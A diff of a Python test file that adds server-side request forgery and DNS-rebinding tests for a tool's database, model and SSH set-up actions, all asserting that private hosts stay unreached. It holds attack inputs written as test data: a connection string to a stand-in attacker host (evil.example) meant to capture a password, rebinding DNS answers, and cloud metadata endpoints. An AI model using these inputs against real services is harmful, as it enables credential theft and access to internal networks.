@@ -1,11 +1,15 @@
-"""An address that the guard reads in one way and a library in another: nothing is sent, and nobody is reached."""
+"""An address that the guard reads in one way and a library in another, or at another time: nothing is sent, and nobody is
+reached. So with machines over SSH."""
 
 from __future__ import annotations
 
+import itertools
 import json
+import socket
 import socketserver
 import threading
 from collections.abc import Iterator
+from typing import Any
 
 import pytest
 
@@ -120,3 +124,59 @@ async def test_a_password_of_the_environment_or_a_file_goes_to_no_database(
         await attack.source(type="database", connection="postgresql://me@evil.example:5432/db", query="select 1", retries=0)
     assert curious
     assert not [each for each in curious if VALUE.encode() in each]
+
+
+@pytest.mark.parametrize("scheme", ["postgresql", "mysql"])
+async def test_a_database_whose_name_leads_elsewhere_the_next_time_is_not_reached(
+    scheme: str, victim: Victim, network: Network, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # The first looks are the guard's, in the server and in the job; the next would be the driver's.
+    monkeypatch.setenv("ATTACKED_NAMES", json.dumps({**NAMES, "rebinding.example": ["8.8.8.8"] * 2 + ["10.0.0.5"]}))
+    async with victim.attacked() as attack:
+        await attack.create()
+        await attack.source(type="database", connection=f"{scheme}://me@rebinding.example/db", query="select 1", retries=0)
+    assert "10.0.0.5" not in network.reached
+
+
+async def test_rows_do_not_leave_by_a_name_that_was_near_when_it_was_looked_up(
+    victim: Victim, network: Network, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    looks = itertools.cycle(["8.8.8.8", "10.0.0.5"])
+    look_up = socket.getaddrinfo
+
+    def changing(host: Any, port: Any, *rest: Any, **named: Any) -> Any:
+        if host != "rebinding.example":
+            return look_up(host, port, *rest, **named)
+        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (next(looks), int(port or 0)))]
+
+    monkeypatch.setattr(socket, "getaddrinfo", changing)
+    async with victim.attacked() as attack:
+        await attack.create(constraints={"privacy": "on-premise"})
+        said = await attack("try_model", task="mails", model="m", url="http://rebinding.example", text="hello")
+    assert said.is_error
+    assert "nlp-skills allow" in said.text
+    assert not network.reached
+
+
+@pytest.mark.parametrize("host", ["169.254.169.254:80", "metadata.google.internal:80", "10.0.0.5", "me@intranet.example:8080"])
+async def test_a_machine_in_a_private_network_is_not_looked_for_without_the_person(
+    host: str, victim: Victim, network: Network
+) -> None:
+    async with victim.attacked() as attack:
+        said = await attack("set_up", what="machine", name="box", settings={"host": host}, confirm=True)
+        assert said.is_error
+        assert not network.reached
+        plain = host.rpartition("@")[2].partition(":")[0]
+        assert victim.run("allow", "--host", plain).returncode in (0, 1, 2)
+        await attack("set_up", what="machine", name="box", settings={"host": host}, confirm=True)
+    metadata = not plain.startswith(("10.", "intranet"))
+    assert bool(network.reached) is not metadata
+
+
+async def test_a_machine_that_the_persons_own_ssh_files_name_is_asked(victim: Victim, network: Network) -> None:
+    config = victim.home / ".ssh" / "config"
+    config.parent.mkdir()
+    config.write_text("Host box\n  HostName 10.0.0.5\n", encoding="utf-8")
+    async with victim.attacked() as attack:
+        await attack("set_up", what="machine", name="box", settings={"host": "box"})
+    assert {*network.reached} == {"10.0.0.5"}
